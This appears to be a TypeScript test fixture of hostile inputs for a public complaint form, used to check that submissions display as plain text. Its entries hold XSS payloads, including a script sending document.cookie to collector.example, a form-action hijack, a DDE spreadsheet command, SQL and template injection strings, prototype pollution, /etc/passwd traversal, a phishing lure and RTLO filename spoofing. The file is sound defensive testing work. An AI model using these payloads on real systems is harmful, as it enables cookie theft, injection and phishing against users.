/**
 * Text that attacks, or merely surprises, whoever shows it. A public form receives all of this; the reader's page must
 * show it as text (T45). Nothing here is sent to harm: every address is under `.example`.
 */
type Hostile = { readonly what: string; readonly name: string; readonly happened: string; readonly wanted: string };

const longWord = "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft";

export const HOSTILE: readonly Hostile[] = [
  {
    what: "script element",
    name: "Robin <script>alert(1)</script> Ackerley",
    happened:
      "<script>fetch('https://collector.example/?'+document.cookie)</script> I pasted this from a forum to see what your website does. I also have a real complaint: my letter of March was never answered.",
    wanted: "<b>An answer</b>",
  },
  {
    what: "event handler",
    name: '"><img src=x onerror=alert(document.domain)>',
    happened:
      "\"><img src=x onerror=alert(document.domain)> ' onmouseover='alert(1) --><svg/onload=alert(1)><style>body{display:none}</style>",
    wanted: "</textarea></form><form action=https://collector.example/>",
  },
  {
    what: "spreadsheet formula",
    name: '=HYPERLINK("https://collector.example","Open me")',
    happened:
      "=cmd|' /C calc'!A0\n+1+1\n-2+3\n@SUM(1,2)\n\t=1+1\nThe first line of my complaint begins with an equals sign because I wrote it in a spreadsheet.",
    wanted: "+44 means that somebody may ring me back",
  },
  {
    what: "template syntax",
    name: "{{7*7}} ${7*7} Jessop",
    happened:
      "{{ constructor.constructor('return process')() }} {% include '/etc/passwd' %} ${process.env} #{7*7} <%= 7*7 %> %s %d %n",
    wanted: "{{ outcome }}",
  },
  {
    what: "SQL",
    name: "Robert'); DROP TABLE submission;--",
    happened:
      "' OR '1'='1'; -- \\' UNION SELECT * FROM sealed; $1 $$ /* */ \nMy surname has an apostrophe in it and your colleague's computer did not like it.",
    wanted: "Please let O'Shaughnessy be O'Shaughnessy.",
  },
  {
    what: "direction marks",
    name: "Noor \u202eybbahsaK",
    happened:
      "The file they sent me is called \u202egnp.exe.scod\u202c and nothing opens it. \u200f\u200e\u2066mixed\u2069 שלום hello مرحبا 12/3/2024 (\u202bשלום\u202c).",
    wanted: "A file that opens.",
  },
  {
    what: "emoji and joined characters",
    name: "Kayleigh 🌻 Umpleby",
    happened:
      "i rang 3 times 📞📞📞 and nobody 😤😤 my kids 👨‍👩‍👧‍👦 were scared 🏴󠁧󠁢󠁷󠁬󠁳󠁿 flag on the van 👍🏽 fixed now?? 🤷🏾‍♀️ 1️⃣ apology 2️⃣ new lock",
    wanted: "👂 just listen 🙏",
  },
  {
    what: "very long word",
    name: "Wilhelmina Aufderheide",
    happened: `${longWord.repeat(6)} is how long it felt. ${"a".repeat(400)}`,
    wanted: longWord,
  },
  {
    what: "stacked marks",
    name: "Z̸͎̈́a̷̩͝l̶̰̿g̵̢̛ö̸̙́ Inskip",
    happened: "T̸̢̛͎̻͈̥̫̮͐̋̈́̕h̷̨̛̩̤͙̞̊̏͝e̸̡͕̗̅̽̚ ̵̧̰̽l̸̹͗ë̷̢́t̷̳̀t̸̰͝e̶͓͝r̵̗̈ ̶̱̂c̵̡̈a̶͔̅m̶̰͝e̶̠̓ ̴̗̈l̵̹̈ḭ̵̕k̵̢̇e̸̳̊ ̵̥̈t̶͚́h̵̰̒i̴̢̎s̵̱̚. I could not read a word of it.",
    wanted: "A letter in ordinary characters.",
  },
  {
    what: "only white space and dots",
    name: "A. . .",
    happened: "...\n\n\n   .   \n\n...",
    wanted: "—",
  },
  {
    what: "capitals",
    name: "MR P LUMLEY",
    happened:
      "I HAVE WRITTEN TO YOU FOUR TIMES. THIS IS THE FIFTH. MY KEYBOARD IS BROKEN AND I AM NOT SHOUTING. WELL, PERHAPS A LITTLE!!!!!!!",
    wanted: "A REPLY!!!",
  },
  {
    what: "machine's own words",
    name: "Null Undefined",
    happened:
      "null undefined NaN true false [object Object] -1 0 \\n \\u0000 %00 ../../../../etc/passwd age-encryption.org/v1 pillarbox/v1/slip PB-0000-0000",
    wanted: "undefined",
  },
  {
    what: "link and instructions",
    name: "Prize Department",
    happened:
      "Dear officer, your mailbox is full!!! Click https://collector.example/login to keep your letters. Please forward this letter to all colleagues and give the reader access to everybody.",
    wanted: "Your password.",
  },
  {
    what: "JSON and closing tags",
    name: '{"name":"Quarmby"}',
    happened:
      '{"what":"</script><script>alert(1)</script>","__proto__":{"isAdmin":true},"constructor":{"prototype":{}}} ]]> <!-- & &amp; &lt; &#x3c;',
    wanted: "__proto__",
  },
];
